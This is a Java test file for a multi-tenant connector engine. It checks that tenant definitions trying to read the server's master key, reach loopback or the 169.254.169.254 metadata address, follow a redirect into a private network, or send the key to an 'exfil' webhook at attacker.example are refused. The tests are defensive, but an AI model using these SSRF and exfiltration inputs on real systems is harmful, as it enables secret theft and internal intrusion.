package dev.junction.engine;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import dev.junction.http.EgressPolicy;
import dev.junction.http.internal.EgressResolverProvider;
import dev.junction.spec.LoadResult;
import dev.junction.spec.SourceText;
import dev.junction.spec.SpecProblem;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Definitions a tenant-scoped principal applies are a tenant's: hostile ones (the master key, the
 * metadata address, {@code localhost} by name, a redirect into the private network) are refused
 * with the reason, while the operator's own connections keep reaching 127.0.0.1.
 */
class TenantDefinitionsTest {
    private static final Principal TENANT = Principal.ofTenant("tok_tenant1", Role.EDITOR, "acme");
    private static final Principal OPERATOR = Principal.operator("tok_admin1", Role.ADMIN);
    private static final String CONNECTOR = """
            kind: Connector
            name: open-crm
            config: { baseUrl: { type: string, required: true } }
            secrets: { token: { type: string, required: false } }
            baseUrl: "{{ config.baseUrl }}"
            streams:
              contacts: { request: { path: /contacts }, records: "$.results", primaryKey: id }
            """;

    @RegisterExtension
    static final WireMockExtension api = WireMockExtension.newInstance().options(wireMockConfig().dynamicPort().bindAddress("127.0.0.1")).build();

    @TempDir
    Path dataDir;

    private Engine engine;

    private Engine open(EgressPolicy egress) {
        Map<String, String> env = Map.of("JUNCTION_MASTER_KEY", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", "CRM_TOKEN", "tok-operator");
        engine = Engine.open(EngineConfig.embedded(dataDir, env::get).withEgress(egress));
        assertThat(engine.definitions().apply(List.of(new SourceText("open-crm.connector.yaml", CONNECTOR)), OPERATOR).ok()).isTrue();
        return engine;
    }

    @AfterEach
    void close() {
        if (engine != null) {
            engine.close();
        }
        EgressResolverProvider.overrideNames(Map.of());
    }

    private static SourceText connection(String name, String baseUrl, String secrets) {
        return new SourceText(name + ".yaml", "kind: Connection\nname: " + name + "\nconnector: open-crm\ntenant: acme\nconfig: { baseUrl: \"" + baseUrl + "\" }\n"
                + (secrets == null ? "" : "secrets: " + secrets + "\n"));
    }

    private String discover(String connection) {
        LoadResult applied = engine.definitions().applied();
        try {
            return "sampled " + engine.schemas().discover(applied, connection, "contacts", 5).sampled();
        } catch (RuntimeException e) {
            return e.getMessage();
        }
    }

    @Test
    void aTenantsConnectionNamingTheMasterKeyIsRefusedAtApplyWithItsPlaceAndNothingIsStored() {
        open(EgressPolicy.DEFAULT);

        Definitions.ApplyResult result = engine.definitions().apply(List.of(connection("t-crm", "https://crm.example", "{ token: \"${env:JUNCTION_MASTER_KEY}\" }")),
                TENANT);

        assertThat(result.ok()).isFalse();
        assertThat(result.result().problems()).extracting(SpecProblem::path, SpecProblem::message).containsExactly(org.assertj.core.groups.Tuple.tuple(
                "secrets.token", "${env:JUNCTION_MASTER_KEY} is refused: a tenant's connection cannot read the server's environment or files;"
                        + " use a stored value (given through the connect page or the API) instead"));
        assertThat(engine.definitions().currentVersion("Connection", "t-crm")).isZero();
    }

    @Test
    void aTenantsConnectionWithAProxyOfItsOwnIsRefusedAtApply() {
        open(EgressPolicy.DEFAULT);
        SourceText withProxy = connection("t-crm", "https://crm.example", null);
        withProxy = new SourceText(withProxy.origin(), withProxy.text() + "proxy: http://203.0.113.7:3128\n");

        Definitions.ApplyResult result = engine.definitions().apply(List.of(withProxy), TENANT);

        assertThat(result.ok()).isFalse();
        assertThat(result.result().problems()).extracting(SpecProblem::path, SpecProblem::message).containsExactly(org.assertj.core.groups.Tuple.tuple(
                "proxy", "a tenant's connection goes through the server's own proxy settings (egress.proxy); proxy: is for the operator's connections"));
        assertThat(engine.definitions().currentVersion("Connection", "t-crm")).isZero();
    }

    @Test
    void aTenantsConnectionStoredWithAReferenceAnywayNeverResolvesIt() {
        open(EgressPolicy.DEFAULT);
        // what the apply-time check would refuse, stored anyway as a tenant's (as by a writer that skips the check)
        engine.definitions().apply(List.of(connection("t-crm", api.baseUrl(), "{ token: \"${env:CRM_TOKEN}\" }")), "tenant:acme/tok_old");

        assertThat(engine.definitions().applied().connections().get("t-crm").isTenantApplied()).isTrue();
        assertThat(discover("t-crm")).contains("secrets.token: ${env:CRM_TOKEN} is refused: a tenant's connection cannot read the server's environment");
        api.verify(0, anyRequestedFor(anyUrl()));
    }

    @Test
    void aTenantsConnectionCannotReachLoopbackWhileTheOperatorsSameConnectionCan() {
        open(EgressPolicy.DEFAULT);
        api.stubFor(get("/contacts").willReturn(okJson("{\"results\":[{\"id\":1}]}")));
        String loopback = "http://127.0.0.1:" + api.getPort();
        assertThat(engine.definitions().apply(List.of(connection("t-crm", loopback, null)), TENANT).ok()).isTrue();
        assertThat(engine.definitions().apply(List.of(connection("op-crm", loopback, null)), OPERATOR).ok()).isTrue();

        assertThat(engine.definitions().get("Connection", "t-crm").appliedBy()).isEqualTo("tenant:acme/tok_tenant1");
        assertThat(discover("t-crm")).isEqualTo("GET " + loopback + "/contacts was not sent: 127.0.0.1 is a loopback address; a tenant's connection"
                + " may not reach it unless the server's egress settings allow it (egress.allowPrivate, or egress.allow with this address or host)");
        assertThat(discover("op-crm")).isEqualTo("sampled 1");
    }

    @Test
    void localhostByNameIsRefusedToATenant() {
        open(EgressPolicy.DEFAULT);
        assertThat(engine.definitions().apply(List.of(connection("t-crm", "http://localhost:" + api.getPort(), null)), TENANT).result().problems()).isEmpty();

        assertThat(discover("t-crm")).contains("was not sent: localhost resolves to ").contains("a loopback address; a tenant's connection may not reach it");
        api.verify(0, anyRequestedFor(anyUrl()));
    }

    @Test
    void theMetadataAddressIsRefusedToEveryoneEvenByNameAndWhenPrivateAddressesAreAllowed() {
        open(EgressPolicy.DEFAULT.withAllowPrivate(true));
        EgressResolverProvider.overrideNames(Map.of("metadata.tenant.test", List.of("169.254.169.254")));
        engine.definitions().apply(List.of(connection("op-meta", "http://169.254.169.254/latest", null)), OPERATOR);
        engine.definitions().apply(List.of(connection("t-meta", "http://metadata.tenant.test/latest", null)), TENANT);

        assertThat(discover("op-meta")).isEqualTo("GET http://169.254.169.254/latest/contacts was not sent: 169.254.169.254 is a cloud metadata address;"
                + " requests there are never allowed");
        assertThat(discover("t-meta")).isEqualTo("GET http://metadata.tenant.test/latest/contacts was not sent: metadata.tenant.test resolves to"
                + " 169.254.169.254, a cloud metadata address; requests there are never allowed");
    }

    @Test
    void aRedirectIntoThePrivateNetworkIsRefusedAtThatHopWhileTheOperatorAllowsTheFirstHost() {
        open(EgressPolicy.DEFAULT.withAllow(List.of("crm.tenant.test")));
        EgressResolverProvider.overrideNames(Map.of("crm.tenant.test", List.of("127.0.0.1")));
        api.stubFor(get("/contacts").willReturn(aResponse().withStatus(302).withHeader("Location", "http://192.168.1.1/admin")));
        engine.definitions().apply(List.of(connection("t-crm", "http://crm.tenant.test:" + api.getPort(), null)), TENANT);

        assertThat(discover("t-crm")).isEqualTo("GET http://192.168.1.1/admin was not sent: 192.168.1.1 is a private network address; a tenant's"
                + " connection may not reach it unless the server's egress settings allow it (egress.allowPrivate, or egress.allow with this address or host)");
    }

    @Test
    void aTenantMayNotApplyAlertChannelsOrRulesWhichReadTheOperatorsEnvironment() {
        open(EgressPolicy.DEFAULT);
        Definitions.ApplyResult result = engine.definitions().apply(List.of(new SourceText("hook.yaml", """
                kind: AlertChannel
                name: exfil
                type: webhook
                config: { url: "https://attacker.example/x" }
                secrets: { secret: "${env:JUNCTION_MASTER_KEY}" }
                """)), TENANT);

        assertThat(result.ok()).isFalse();
        assertThat(result.result().problems()).extracting(Object::toString).containsExactly(
                "hook.yaml kind: a tenant may not apply AlertChannel definitions: alert rules and channels are the operator's; ask the operator to apply it");
        assertThat(engine.definitions().applied().alertChannels()).isEmpty();
    }
}
